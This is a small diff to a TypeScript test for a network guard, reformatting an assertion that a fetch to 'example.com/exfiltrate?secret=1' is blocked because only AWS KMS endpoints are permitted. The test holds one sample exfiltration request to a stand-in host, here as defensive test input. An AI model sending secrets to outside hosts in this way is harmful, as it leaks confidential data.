@@ -37,7 +37,9 @@ describe('installNetworkGuard', () => {
       const failure = fetch('https://example.com/exfiltrate?secret=1').catch((error: unknown) => error);
       await expect(failure).resolves.toBeInstanceOf(TypeError);
       await expect(failure).resolves.toMatchObject({
-        message: expect.stringMatching(/Network request blocked: GET https:\/\/example\.com\/exfiltrate was not sent.*only AWS KMS endpoints/),
+        message: expect.stringMatching(
+          /Network request blocked: GET https:\/\/example\.com\/exfiltrate was not sent.*only AWS KMS endpoints/,
+        ),
       });
     }
   });
